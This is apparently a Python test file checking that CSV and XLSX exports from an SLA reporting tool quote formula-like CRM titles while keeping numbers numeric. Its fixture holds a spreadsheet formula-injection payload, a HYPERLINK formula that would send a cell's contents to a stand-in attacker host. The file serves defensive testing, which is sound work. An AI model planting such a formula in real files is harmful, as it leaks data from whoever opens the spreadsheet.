"""Exports keep CRM texts as text: a title a spreadsheet would run as a formula is quoted, numbers stay numbers."""

from __future__ import annotations

import csv
import io

from components.exports import csv_bytes, xlsx_bytes
from domain.metrics import MetricParams
from domain.sla_report import Column, Table

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Сбой ЕСИА")'
TABLE = Table("worst", "sla_worst", (Column("incidents", "incidents_open", "text"),
                                     Column("offered", "offered", "count")),
              [{"incidents": HOSTILE, "offered": 12}, {"incidents": "-1+2", "offered": -3},
               {"incidents": "ЕСИА: вход недоступен", "offered": 7}])


def test_a_csv_quotes_texts_that_start_like_a_formula_and_leaves_numbers_alone():
    rows = list(csv.reader(io.StringIO(csv_bytes(TABLE, "ru", MetricParams(), "UTC", None).decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == ["'" + HOSTILE, "'-1+2", "ЕСИА: вход недоступен"]
    assert [r[1] for r in rows[1:]] == ["12", "-3", "7"]


def test_an_xlsx_keeps_a_formula_like_title_as_a_string_cell_not_a_formula():
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(xlsx_bytes([TABLE], "ru", MetricParams(), "UTC", lambda s, _l: s)))
    ws = wb[wb.sheetnames[0]]
    cells = [ws.cell(r, 1) for r in range(2, 5)]
    assert [c.data_type for c in cells] == ["s", "s", "s"] and cells[0].value == "'" + HOSTILE
    assert [ws.cell(r, 2).value for r in range(2, 5)] == [12, -3, 7]
